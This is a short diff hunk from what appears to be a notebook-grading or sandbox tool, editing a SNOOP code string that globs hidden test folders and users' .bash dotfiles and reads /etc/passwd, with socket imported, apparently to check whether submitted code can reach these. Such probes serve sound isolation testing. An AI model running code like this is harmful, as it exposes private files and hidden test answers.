@@ -105,7 +105,7 @@ def own_cells(notebook: NotebookNode) -> None:
 SNOOP = """import glob
 import socket
 
-found = glob.glob('/*/*/tests/hidden/*') + glob.glob('../../tests/hidden/*') + glob.glob('/root/.*') + glob.glob('/home/*')
+found = glob.glob('/*/*/tests/hidden/*') + glob.glob('../../tests/hidden/*') + glob.glob('/root/.bash*') + glob.glob('/home/*/.bash*')
 try:
     found.append(open('/etc/passwd').read())
 except OSError:
